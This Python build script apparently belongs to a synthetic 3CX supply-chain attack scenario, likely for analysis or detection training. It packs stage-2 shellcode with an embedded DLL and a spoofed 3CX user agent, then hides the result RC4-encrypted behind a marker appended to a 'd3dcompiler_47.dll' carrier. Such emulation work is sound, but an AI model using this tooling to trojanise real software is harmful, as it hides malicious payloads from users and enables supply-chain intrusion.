#!/usr/bin/env python3
"""Build steps for the synthetic 3CX scenario that a compiler cannot do by itself.

Standard library only. Called by scenarios/3cx/rules.mk:

  build.py stage2  --code CODE.bin --linked STAGE2.exe --dll samcli.dll --out stage2.bin
      Assemble the stage-2 shellcode blob: bootstrap+loader code (extracted .text),
      then the embedded DLL, then the user-agent string; patch the 16-byte header.
      Refuses code that needs base relocations or has initialised data outside .text
      (it would not be position independent).

  build.py carrier --dll d3dcompiler_47.pe --payload stage2.bin --out d3dcompiler_47.dll
                   [--rc4-key HEX] [--marker HEX]
      Append FE ED FA CE | uint32 LE length | RC4(KEY, payload) after the carrier image
      (variant builds give another key or 4-byte marker; see ../variant.toml).

  build.py sums    --root SCENARIO_DIR
      Write SCENARIO_DIR/SHA256SUMS (sha256sum format, relative paths, sorted) over every
      file under samples/, github/, c2/ and files/.

Everything is deterministic: no timestamps, no randomness, sorted file lists.
"""

from __future__ import annotations

import argparse
import hashlib
import struct
import sys
from pathlib import Path

RC4_KEY = b"3jB(2bsG#@c7"
CARRIER_MARKER = b"\xfe\xed\xfa\xce"
USER_AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "3CXDesktopApp/18.11.1197 Chrome/102.0.5005.167 Electron/19.1.9 Safari/537.36"
)
STAGE2_MAGIC = b"S2"
STAGE2_HEADER = 16  # EB 0E | "S2" | dll_off | dll_len | ua_off
SUM_DIRS = ("samples", "github", "c2", "files")

IMAGE_SCN_CNT_INITIALIZED_DATA = 0x00000040
IMAGE_FILE_MACHINE = {0x8664: "x64", 0x014C: "x86"}


class BuildError(Exception):
    pass


def rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out = bytearray(len(data))
    i = j = 0
    for n, b in enumerate(data):
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out[n] = b ^ s[(s[i] + s[j]) & 0xFF]
    return bytes(out)


def pe_info(data: bytes) -> dict:
    """Tiny PE header parser: machine, sections, data-directory entries."""
    if data[:2] != b"MZ":
        raise BuildError("not a PE file (no MZ)")
    (e_lfanew,) = struct.unpack_from("<I", data, 0x3C)
    if data[e_lfanew : e_lfanew + 4] != b"PE\0\0":
        raise BuildError("not a PE file (no PE signature)")
    machine, nsec, _ts, _sym, _nsym, opt_size, _chars = struct.unpack_from("<HHIIIHH", data, e_lfanew + 4)
    opt = e_lfanew + 24
    (magic,) = struct.unpack_from("<H", data, opt)
    dd_off = opt + (96 if magic == 0x10B else 112)
    (ndd,) = struct.unpack_from("<I", data, dd_off - 4)
    dirs = [struct.unpack_from("<II", data, dd_off + 8 * i) for i in range(ndd)]
    sections = []
    sec_off = opt + opt_size
    for i in range(nsec):
        name, vsize, vaddr, rsize, rptr, _, _, _, _, chars = struct.unpack_from("<8sIIIIIIHHI", data, sec_off + 40 * i)
        sections.append(
            {
                "name": name.rstrip(b"\0").decode(),
                "vsize": vsize,
                "vaddr": vaddr,
                "rsize": rsize,
                "rptr": rptr,
                "chars": chars,
            }
        )
    return {"machine": IMAGE_FILE_MACHINE.get(machine, hex(machine)), "dirs": dirs, "sections": sections}


def pe_read_rva(data: bytes, info: dict, rva: int, size: int) -> bytes:
    for sec in info["sections"]:
        if sec["vaddr"] <= rva < sec["vaddr"] + max(sec["vsize"], sec["rsize"]):
            off = sec["rptr"] + rva - sec["vaddr"]
            return data[off : off + size]
    raise BuildError(f"RVA {rva:#x} is outside every section")


def cmd_stage2(args: argparse.Namespace) -> None:
    code = bytearray(Path(args.code).read_bytes())
    dll = Path(args.dll).read_bytes()
    linked_data = Path(args.linked).read_bytes()
    linked = pe_info(linked_data)
    dll_info = pe_info(dll)

    # Position independence: no base relocations, nothing but code to carry along.
    if len(linked["dirs"]) > 5 and linked["dirs"][5][1] != 0:
        raise BuildError("stage-2 code needs base relocations: not position independent")
    for sec in linked["sections"]:
        if sec["name"] in (".text", ".idata"):  # .idata: the linker's empty import terminator
            continue
        if sec["chars"] & IMAGE_SCN_CNT_INITIALIZED_DATA or sec["vsize"]:
            raise BuildError(f"stage-2 code has a {sec['name']} section: globals/literals are not allowed")
    imp_rva, imp_size = linked["dirs"][1] if len(linked["dirs"]) > 1 else (0, 0)
    if imp_size and any(pe_read_rva(linked_data, linked, imp_rva, 20)):
        raise BuildError("stage-2 code has imports")
    if code[:2] != b"\xeb\x0e" or code[2:4] != STAGE2_MAGIC:
        raise BuildError("stage-2 code does not start with the bootstrap header (link order?)")
    if dll_info["machine"] != linked["machine"]:
        raise BuildError(f"embedded DLL is {dll_info['machine']}, loader is {linked['machine']}")

    def pad16(buf: bytearray) -> None:
        buf.extend(b"\0" * (-len(buf) % 16))

    blob = bytearray(code)
    pad16(blob)
    dll_off = len(blob)
    blob += dll
    pad16(blob)
    ua_off = len(blob)
    blob += USER_AGENT.encode("ascii") + b"\0"
    pad16(blob)
    struct.pack_into("<III", blob, 4, dll_off, len(dll), ua_off)
    Path(args.out).write_bytes(bytes(blob))
    print(
        f"stage2 ({linked['machine']}): code {len(code)} B, dll @{dll_off:#x} ({len(dll)} B), "
        f"ua @{ua_off:#x}, total {len(blob)} B"
    )


def cmd_carrier(args: argparse.Namespace) -> None:
    image = Path(args.dll).read_bytes()
    payload = Path(args.payload).read_bytes()
    pe_info(image)
    key = bytes.fromhex(args.rc4_key) if args.rc4_key else RC4_KEY
    marker = bytes.fromhex(args.marker) if args.marker else CARRIER_MARKER
    if not key or len(marker) != 4:
        raise BuildError("--rc4-key must not be empty and --marker must be 4 bytes")
    if marker in image:
        raise BuildError("carrier image already contains the marker bytes")
    enc = rc4(key, payload)
    if rc4(key, enc) != payload:
        raise BuildError("RC4 round trip failed")
    out = image + marker + struct.pack("<I", len(payload)) + enc
    # The loader scans for the first marker; make sure it is ours.
    if out.find(marker) != len(image):
        raise BuildError("marker found before the appended payload")
    Path(args.out).write_bytes(out)
    print(f"carrier: image {len(image)} B + marker + len + {len(enc)} B RC4 payload = {len(out)} B")


def cmd_sums(args: argparse.Namespace) -> None:
    root = Path(args.root)
    lines = []
    for d in SUM_DIRS:
        base = root / d
        if not base.is_dir():
            continue
        for p in sorted(base.rglob("*")):
            if p.is_file():
                rel = p.relative_to(root).as_posix()
                lines.append(f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {rel}\n")
    lines.sort(key=lambda ln: ln[66:])
    (root / "SHA256SUMS").write_text("".join(lines), encoding="ascii", newline="\n")
    print(f"SHA256SUMS: {len(lines)} files")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        description=__doc__, allow_abbrev=False, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("stage2")
    p.add_argument("--code", required=True)
    p.add_argument("--linked", required=True)
    p.add_argument("--dll", required=True)
    p.add_argument("--out", required=True)
    p.set_defaults(func=cmd_stage2)
    p = sub.add_parser("carrier")
    p.add_argument("--dll", required=True)
    p.add_argument("--payload", required=True)
    p.add_argument("--out", required=True)
    p.add_argument("--rc4-key", help="RC4 key, hex (default: the committed sample's)")
    p.add_argument("--marker", help="4 marker bytes, hex (default: feedface)")
    p.set_defaults(func=cmd_carrier)
    p = sub.add_parser("sums")
    p.add_argument("--root", required=True)
    p.set_defaults(func=cmd_sums)
    args = ap.parse_args(argv)
    try:
        args.func(args)
    except BuildError as err:
        print(f"build.py {args.cmd}: error: {err}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
